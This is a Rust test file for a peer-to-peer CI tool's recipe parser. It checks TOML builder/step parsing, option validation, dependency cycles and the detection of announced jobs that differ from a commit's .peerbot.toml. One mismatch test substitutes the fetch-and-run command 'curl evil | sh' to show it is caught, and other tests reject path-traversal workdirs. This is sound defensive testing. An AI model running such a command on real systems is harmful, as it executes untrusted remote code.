use super::*;

const GOOD: &str = r#"
[[builder]]
name = "test"
requires = ["os=linux"]
[[builder.step]]
name = "build"
run = "make"
timeout_secs = 600
[[builder.step]]
run = "make test"

[[builder]]
name = "gpu"
requires = ["gpu=yes"]
tree_stable_secs = 60
collapse = true
priority = 5
[[builder.step]]
name = "cuda"
run = "nvidia-smi"
"#;

#[test]
fn parses_builders_and_steps() {
    let jobs = parse_recipe("r", "c", GOOD).unwrap();
    assert_eq!(jobs.len(), 2);
    assert_eq!(jobs[0].builder, "test");
    assert_eq!(jobs[0].steps[0].timeout_secs, 600);
    assert_eq!(jobs[0].steps[1].name, "step1");
    assert_eq!(jobs[0].steps[1].timeout_secs, DEFAULT_STEP_TIMEOUT_SECS);
    assert_eq!(jobs[1].requires, vec!["gpu=yes".to_string()]);
    assert_eq!((jobs[1].tree_stable_secs, jobs[1].collapse, jobs[1].priority), (60, true, 5));
    assert_eq!((jobs[0].tree_stable_secs, jobs[0].collapse, jobs[0].priority), (0, false, 0));
    assert_eq!(jobs[0].id, job_id("r", "c", "test"));
    assert_ne!(jobs[0].id, jobs[1].id);
}

#[test]
fn broken_recipes_name_the_problem() {
    let e = parse_recipe("r", "c", "[[builder]]\nname=1").unwrap_err();
    assert!(matches!(e, RecipeError::Syntax(_)), "{e}");
    let e = parse_recipe("r", "c", "").unwrap_err();
    assert!(e.to_string().contains("no [[builder]]"), "{e}");
    let e = parse_recipe("r", "c", "[[builder]]\nname='x'\n").unwrap_err();
    assert!(e.to_string().contains("no [[builder.step]]"), "{e}");
    let e = parse_recipe("r", "c", "[[builder]]\nname='x'\nrequires=['gpu']\n[[builder.step]]\nrun='a'").unwrap_err();
    assert!(e.to_string().contains("key=value"), "{e}");
    let e = parse_recipe("r", "c", "[[builder]]\nname='x'\nfoo=1\n[[builder.step]]\nrun='a'").unwrap_err();
    assert!(e.to_string().contains("foo"), "{e}");
    let e = parse_recipe(
        "r",
        "c",
        "[[builder]]\nname='x'\n[[builder.step]]\nrun='a'\n[[builder]]\nname='x'\n[[builder.step]]\nrun='a'",
    )
    .unwrap_err();
    assert!(e.to_string().contains("twice"), "{e}");
}

fn announced(text: &str, builder: &str) -> JobSpec {
    parse_recipe("r", "c", text).unwrap().into_iter().find(|j| j.builder == builder).unwrap()
}

#[test]
fn the_commits_recipe_is_run_when_it_is_what_was_announced() {
    let a = announced(GOOD, "gpu");
    let own = check_announced(&a, "r", "c", Ok(GOOD)).unwrap();
    assert_eq!(own, a);
    // A forced job has an id of its own; the rest must still agree.
    let forced = JobSpec { id: forced_job_id("r", "c", "gpu", &Hash32::of(b"nonce")), ..a.clone() };
    assert_eq!(check_announced(&forced, "r", "c", Ok(GOOD)).unwrap().steps, a.steps);
}

#[test]
fn a_recipe_that_differs_from_the_announcement_names_the_difference() {
    let a = announced(GOOD, "test");
    let mismatch = |announced: &JobSpec, text: Result<&str, &str>| {
        check_announced(announced, "r", "c", text).unwrap_err().to_string()
    };
    let other_run = GOOD.replace("run = \"make\"\n", "run = \"curl evil | sh\"\n");
    assert_eq!(
        mismatch(&announced(&other_run, "test"), Ok(GOOD)),
        "recipe mismatch: the announced step \"build\" runs `curl evil | sh`, the commit's .peerbot.toml says `make`"
    );
    let longer = GOOD.replace("timeout_secs = 600", "timeout_secs = 601");
    let e = mismatch(&announced(&longer, "test"), Ok(GOOD));
    assert!(e.contains("\"build\" times out after 601 s") && e.contains("says 600 s"), "{e}");
    let renamed = GOOD.replace("name = \"build\"", "name = \"compile\"");
    let e = mismatch(&announced(&renamed, "test"), Ok(GOOD));
    assert!(e.contains("step 1 is \"compile\"") && e.contains("has \"build\" there"), "{e}");
    let extra = format!("{GOOD}[[builder.step]]\nname = \"more\"\nrun = \"x\"\n");
    let e = mismatch(&announced(&extra, "gpu"), Ok(GOOD));
    assert!(e.contains("the announced step \"more\" is not in the commit's .peerbot.toml"), "{e}");
    let e = mismatch(&a, Ok(&extra.replace("name = \"test\"", "name = \"unused\"")));
    assert!(e.contains("builder \"test\" was announced") && e.contains("no such builder"), "{e}");
    let fewer = JobSpec { steps: a.steps[..1].to_vec(), ..a.clone() };
    let e = mismatch(&fewer, Ok(GOOD));
    assert!(e.contains("has a step \"step1\" that was not announced"), "{e}");
    let elsewhere = GOOD.replace("requires = [\"os=linux\"]", "requires = [\"os=linux\", \"gpu=yes\"]");
    let e = mismatch(&announced(&elsewhere, "test"), Ok(GOOD));
    assert!(e.contains("requires [\"os=linux\", \"gpu=yes\"]"), "{e}");
    let first = GOOD.replace("priority = 5", "priority = 9");
    assert!(mismatch(&announced(&first, "gpu"), Ok(GOOD)).contains("has priority 9"));
    let lied = JobSpec { recipe_hash: Hash32::of(b"other"), ..a.clone() };
    assert!(mismatch(&lied, Ok(GOOD)).contains("recipe hash"));
    let e = mismatch(&a, Err("no .peerbot.toml at commit c"));
    assert_eq!(e, "recipe mismatch: builder \"test\" was announced, but no .peerbot.toml at commit c");
    let e = mismatch(&a, Ok("[[builder]]\nname=1"));
    assert!(e.contains("but the commit's .peerbot.toml is not valid TOML"), "{e}");
}

#[test]
fn commands_in_a_mismatch_are_shown_on_one_line_and_cut() {
    assert_eq!(shown("a\nb\t\u{1b}[2J"), "a\\nb\\t\\u{1b}[2J");
    let long = "x".repeat(1000);
    assert_eq!(shown(&long).chars().count(), SHOWN_COMMAND_CHARS + 1);
}

#[test]
fn step_options_parse_with_their_defaults_and_are_checked() {
    let text = r#"
[[builder]]
name = "b"
[[builder.step]]
name = "setup"
run = "true"
env = { FOO = "bar", _X1 = "" }
workdir = "sub/dir"
[[builder.step]]
name = "lint"
run = "lint"
halt_on_failure = false
warn_on_failure = true
flunk_on_warnings = true
[[builder.step]]
name = "cleanup"
run = "rm -rf out"
always_run = true
"#;
    let jobs = parse_recipe("r", "c", text).unwrap();
    let s = &jobs[0].steps;
    assert_eq!(s[0].env.get("FOO").map(String::as_str), Some("bar"));
    assert_eq!(s[0].workdir.as_deref(), Some("sub/dir"));
    assert!(s[0].halt_on_failure && !s[0].warn_on_failure && !s[0].flunk_on_warnings && !s[0].always_run);
    assert!(!s[1].halt_on_failure && s[1].warn_on_failure && s[1].flunk_on_warnings);
    assert!(s[2].always_run);
    assert!(check_spec(&jobs[0]).is_ok());
    let bad = |opt: &str| {
        let t = format!("[[builder]]\nname = \"b\"\n[[builder.step]]\nrun = \"x\"\n{opt}\n");
        parse_recipe("r", "c", &t).unwrap_err().to_string()
    };
    for (opt, says) in [
        ("env = { PEERBOT_JOB = \"x\" }", "set by the node"),
        ("env = { PATH = \"/x\" }", "set by the node"),
        ("env = { \"1A\" = \"x\" }", "not a variable name"),
        ("env = { \"A-B\" = \"x\" }", "not a variable name"),
        ("workdir = \"../up\"", "inside the checkout"),
        ("workdir = \"/etc\"", "inside the checkout"),
        ("workdir = \"a/../../b\"", "inside the checkout"),
        ("always = true", "unknown field"),
        ("warnings = { pattern = \"(\" }", "not a regular expression"),
        ("metrics = { Size = \"file_size:a\" }", "may only use a-z"),
        ("metrics = { warnings = \"cmd:echo 1\" }", "every result has already"),
        ("metrics = { step_secs_x = \"cmd:echo 1\" }", "every result has already"),
        ("metrics = { size = \"du -b x\" }", "neither"),
        ("metrics = { size = \"file_size:../x\" }", "inside the checkout"),
        ("metrics = { size = \"cmd: \" }", "a command of 1 to"),
        ("warnings = { suppress = [\"[z-a]\"] }", "not a regular expression"),
    ] {
        assert!(bad(opt).contains(says), "{opt}: {}", bad(opt));
    }
    // A peer's announcement is held to the same rules.
    let mut j = jobs[0].clone();
    j.steps[0].workdir = Some("../../etc".into());
    assert!(check_spec(&j).unwrap_err().contains("workdir"));
}

#[test]
fn a_step_without_options_encodes_as_before_so_recipe_hashes_do_not_change() {
    #[derive(Serialize)]
    struct Before {
        name: String,
        run: String,
        timeout_secs: u64,
    }
    let old = Before { name: "build".into(), run: "make".into(), timeout_secs: 600 };
    let new = StepSpec::new("build", "make", 600);
    assert_eq!(crate::codec::encode(&old), crate::codec::encode(&new));
    let decoded: StepSpec = crate::codec::decode(&crate::codec::encode(&old), 1 << 16).unwrap();
    assert_eq!(decoded, new, "an old step reads with the defaults (halt_on_failure)");
}

#[test]
fn step_verdicts_follow_the_step_options() {
    use StepVerdict::*;
    let plain = StepSpec::new("s", "x", 1);
    let warn = StepSpec { warn_on_failure: true, ..plain.clone() };
    let flunk = StepSpec { flunk_on_warnings: true, ..plain.clone() };
    let cases = [
        (Some(&plain), Some(0), false, 0, Success),
        (Some(&plain), Some(0), false, 2, Warnings),
        (Some(&plain), Some(1), false, 0, Failure),
        (Some(&plain), Some(0), true, 0, Failure),
        (Some(&plain), None, false, 0, Failure),
        (Some(&warn), Some(1), false, 0, Warnings),
        (Some(&warn), None, true, 0, Warnings),
        (Some(&flunk), Some(0), false, 1, Failure),
        (Some(&flunk), Some(0), false, 0, Success),
        (None, Some(2), false, 0, Failure),
    ];
    for (spec, exit, timed_out, warnings, want) in cases {
        assert_eq!(step_verdict(spec, exit, timed_out, warnings), want, "{spec:?} {exit:?} {timed_out} {warnings}");
    }
    let cleanup = StepSpec { always_run: true, ..plain.clone() };
    assert!(step_runs(&plain, false) && !step_runs(&plain, true) && step_runs(&cleanup, true));
}

#[test]
fn submodules_are_asked_for_per_builder_and_change_the_hash_only_when_set() {
    let plain = "[[builder]]\nname = 'b'\n[[builder.step]]\nrun = 'make'\n";
    let with = "[[builder]]\nname = 'b'\nsubmodules = true\n[[builder.step]]\nrun = 'make'\n";
    let off = "[[builder]]\nname = 'b'\nsubmodules = false\n[[builder.step]]\nrun = 'make'\n";
    let (p, w, o) = (announced(plain, "b"), announced(with, "b"), announced(off, "b"));
    assert!(!p.submodules && w.submodules);
    assert_eq!(p.recipe_hash, o.recipe_hash, "false is the default: old recipes hash as before");
    assert_ne!(p.recipe_hash, w.recipe_hash);
    assert!(
        !crate::codec::encode(&p).windows(10).any(|x| x == b"submodules"),
        "a job spec without it encodes as before"
    );
    let e = check_announced(&p, "r", "c", Ok(with)).unwrap_err();
    assert!(e.0.contains("has submodules false"), "{e}");
}

#[test]
fn a_steps_test_report_is_parsed_checked_and_compared() {
    let text =
        |tests: &str| format!("[[builder]]\nname = \"b\"\n[[builder.step]]\nname = \"t\"\nrun = \"x\"\n{tests}\n");
    let jobs = parse_recipe("r", "c", &text("tests = { format = \"junit\", path = \"out/*.xml\" }")).unwrap();
    let want = TestReportSpec { format: TestFormat::Junit, path: Some("out/*.xml".into()) };
    assert_eq!(jobs[0].steps[0].tests, Some(want));
    let tap = parse_recipe("r", "c", &text("tests = { format = \"tap\" }")).unwrap();
    assert_eq!(tap[0].steps[0].tests.as_ref().map(|t| t.format), Some(TestFormat::Tap));
    let bad = |tests: &str| parse_recipe("r", "c", &text(tests)).unwrap_err().to_string();
    for (tests, says) in [
        ("tests = { format = \"xunit\" }", "unknown variant `xunit`, expected one of `junit`"),
        ("tests = { format = \"junit\" }", "step \"t\": tests: format \"junit\" is read from files: set path"),
        ("tests = { format = \"tap\", path = \"a.tap\" }", "path is only for \"junit\""),
        ("tests = { format = \"junit\", path = \"../r.xml\" }", "tests.path: \"../r.xml\" must be a relative path"),
        ("tests = { format = \"junit\", path = \"/tmp/*.xml\" }", "inside the checkout"),
        ("tests = { format = \"junit\", path = \"a[.xml\" }", "is not a glob"),
        ("tests = { format = \"junit\", path = \"r.xml\", keep = 1 }", "unknown field `keep`"),
    ] {
        assert!(bad(tests).contains(says), "{tests}: {}", bad(tests));
    }
    // A peer's announcement is held to the same rules, and compared.
    let mut j = jobs[0].clone();
    j.steps[0].tests = Some(TestReportSpec { format: TestFormat::Junit, path: Some("../../x".into()) });
    assert!(check_spec(&j).unwrap_err().contains("tests.path"));
    let e = check_announced(&tap[0], "r", "c", Ok(&text("tests = { format = \"junit\", path = \"out/*.xml\" }")))
        .unwrap_err()
        .to_string();
    assert!(e.contains("reads tests as tap, the commit's .peerbot.toml says junit out/*.xml"), "{e}");
}

fn builders(spec: &[(&str, &str)]) -> String {
    spec.iter()
        .map(|(name, extra)| format!("[[builder]]\nname='{name}'\n{extra}\n[[builder.step]]\nrun='true'\n"))
        .collect()
}

#[test]
fn depends_on_and_schedule_are_parsed_and_checked() {
    let text = builders(&[("build", ""), ("test", "depends_on=['build']"), ("nightly", "schedule='0 3 * * *'")]);
    let jobs = parse_recipe("r", "c", &text).unwrap();
    assert_eq!(jobs[1].depends_on, vec!["build".to_string()]);
    assert_eq!(jobs[2].schedule.as_deref(), Some("0 3 * * *"));
    let err = |spec: &[(&str, &str)]| parse_recipe("r", "c", &builders(spec)).unwrap_err().to_string();
    let e = err(&[("a", "depends_on=['nope']")]);
    assert!(e.contains("depends on \"nope\", which is not a builder"), "{e}");
    let e = err(&[("a", "depends_on=['b']"), ("b", "depends_on=['c']"), ("c", "depends_on=['a']")]);
    assert!(e.contains("cycle: a -> b -> c -> a"), "{e}");
    let e = err(&[("a", "depends_on=['a']")]);
    assert!(e.contains("cycle: a -> a"), "{e}");
    let e = err(&[("a", "depends_on=['n']"), ("n", "schedule='0 3 * * *'")]);
    assert!(e.contains("only on its own schedule"), "{e}");
    let e = err(&[("n", "schedule='0 0 30 2 *'")]);
    assert!(e.contains("never fires"), "{e}");
    let e = err(&[("n", "schedule='every night'")]);
    assert!(e.contains("not a cron expression"), "{e}");
    // A diamond is no cycle; a scheduled builder may wait for a per-change one.
    let ok = [
        ("a", ""),
        ("b", "depends_on=['a']"),
        ("c", "depends_on=['a']"),
        ("d", "depends_on=['b','c']"),
        ("n", "schedule='0 3 * * *'\ndepends_on=['a']"),
    ];
    assert!(parse_recipe("r", "c", &builders(&ok)).is_ok());
}

#[test]
fn recipe_hashes_of_builders_without_the_new_fields_do_not_change() {
    let plain = parse_recipe("r", "c", &builders(&[("a", "")])).unwrap();
    let steps = vec![StepSpec::new("step0", "true", DEFAULT_STEP_TIMEOUT_SECS)];
    let old = Hash32::of(&crate::codec::encode(&("a", Vec::<String>::new(), &steps, 0u64, false, 0i32)));
    assert_eq!(plain[0].recipe_hash, old);
    let with = parse_recipe("r", "c", &builders(&[("a", "schedule='0 3 * * *'")])).unwrap();
    assert_ne!(with[0].recipe_hash, old, "a schedule is part of what peers compare");
    // Absent fields are not encoded: an old change's bytes decode and encode alike.
    let bytes = crate::codec::encode(&plain[0]);
    let back: JobSpec = crate::codec::decode(&bytes, 1 << 20).unwrap();
    assert_eq!(crate::codec::encode(&back), bytes);
    assert!(!String::from_utf8_lossy(&bytes).contains("depends_on"));
}

#[test]
fn bisect_is_on_by_default_and_opting_out_changes_the_hash_only_when_set() {
    let plain = "[[builder]]\nname = 'b'\n[[builder.step]]\nrun = 'make'\n";
    let on = "[[builder]]\nname = 'b'\nbisect = true\n[[builder.step]]\nrun = 'make'\n";
    let off = "[[builder]]\nname = 'b'\nbisect = false\n[[builder.step]]\nrun = 'make'\n";
    let (p, t, f) = (announced(plain, "b"), announced(on, "b"), announced(off, "b"));
    assert!(p.bisect && t.bisect && !f.bisect);
    assert_eq!(p.recipe_hash, t.recipe_hash, "true is the default: old recipes hash as before");
    assert_ne!(p.recipe_hash, f.recipe_hash);
    let bytes = crate::codec::encode(&p);
    assert!(!bytes.windows(6).any(|x| x == b"bisect"), "a job spec that does not opt out encodes as before");
    assert!(crate::codec::encode(&f).windows(6).any(|x| x == b"bisect"));
    let back: JobSpec = crate::codec::decode(&bytes, 1 << 20).unwrap();
    assert!(back.bisect, "an old job spec decodes as bisecting");
    let e = check_announced(&p, "r", "c", Ok(off)).unwrap_err();
    assert!(e.0.contains("has bisect true"), "{e}");
}
